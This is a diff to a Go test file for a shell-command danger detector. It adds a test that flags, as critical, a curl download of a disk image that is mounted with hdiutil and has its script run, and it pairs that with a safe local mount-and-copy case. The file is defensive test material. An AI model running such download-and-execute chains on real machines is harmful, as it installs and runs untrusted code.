@@ -93,3 +93,14 @@ func TestScriptsOfFreshClones(t *testing.T) {
 		`git clone https://git.example.com/x/y && cd y && ls`,
 	})
 }
+
+// A downloaded disk image mounted and run.
+func TestDownloadedDiskImagesRun(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`curl -sLo /tmp/a.dmg https://dl.example.com/a.dmg && hdiutil attach /tmp/a.dmg && /Volumes/A/run.sh`, CategoryRemoteExec, "remote-download-exec", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`hdiutil attach ~/Downloads/Tool.dmg && cp -R /Volumes/Tool/Tool.app /Applications/`,
+	})
+}
